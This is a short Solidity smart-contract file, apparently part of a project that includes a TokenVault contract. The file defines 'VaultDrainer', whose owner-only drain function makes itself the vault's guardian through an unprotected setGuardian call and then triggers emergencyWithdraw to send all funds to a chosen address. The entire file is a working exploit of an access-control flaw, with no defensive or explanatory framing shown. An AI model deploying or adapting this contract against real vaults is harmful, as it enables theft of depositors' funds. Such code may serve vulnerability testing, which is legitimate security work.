// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {TokenVault} from "../core/TokenVault.sol";

/// @notice Takes the guardian role through the vault's unguarded setter and empties it to `to`, in one call.
contract VaultDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function drain(TokenVault vault, address to) external {
        require(msg.sender == owner, "VaultDrainer: not owner");
        vault.setGuardian(address(this));
        vault.emergencyWithdraw(to);
    }
}
